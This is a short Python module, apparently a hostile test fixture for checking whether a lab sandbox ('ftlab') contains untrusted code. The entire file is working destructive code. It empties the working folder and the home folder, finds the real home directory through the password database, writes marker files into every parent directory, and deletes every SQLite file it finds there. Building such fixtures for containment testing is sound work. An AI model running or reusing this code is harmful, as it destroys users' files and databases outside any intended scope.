"""Deletes everything in its working folder and HOME, then goes after the lab: writes a file into
every folder above its own installed location and into the real home folder (from the password
database, not $HOME), and deletes every SQLite file it finds there (ftlab's store among them)."""
import glob
import os
import pwd
import shutil

from ftfix_hostile import PWNED


def empty(folder):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            try:
                os.unlink(path)
            except OSError:
                pass


empty(os.getcwd())
empty(os.path.expanduser("~"))
targets = []
here = os.path.dirname(os.path.abspath(__file__))
while True:
    parent = os.path.dirname(here)
    if parent == here:
        break
    targets.append(parent)
    here = parent
targets.append(pwd.getpwuid(os.getuid()).pw_dir)
damage = []
for folder in targets:
    try:
        with open(os.path.join(folder, PWNED), "w") as f:
            f.write("written by ftfix_hostile.wipe\n")
        damage.append(folder)
    except OSError:
        pass
    for db in glob.glob(os.path.join(folder, "*.sqlite*")):
        try:
            os.unlink(db)
            damage.append(db)
        except OSError:
            pass
if not damage:
    raise PermissionError("wipe: could not touch anything outside the sandbox (%d folders tried)" % len(targets))
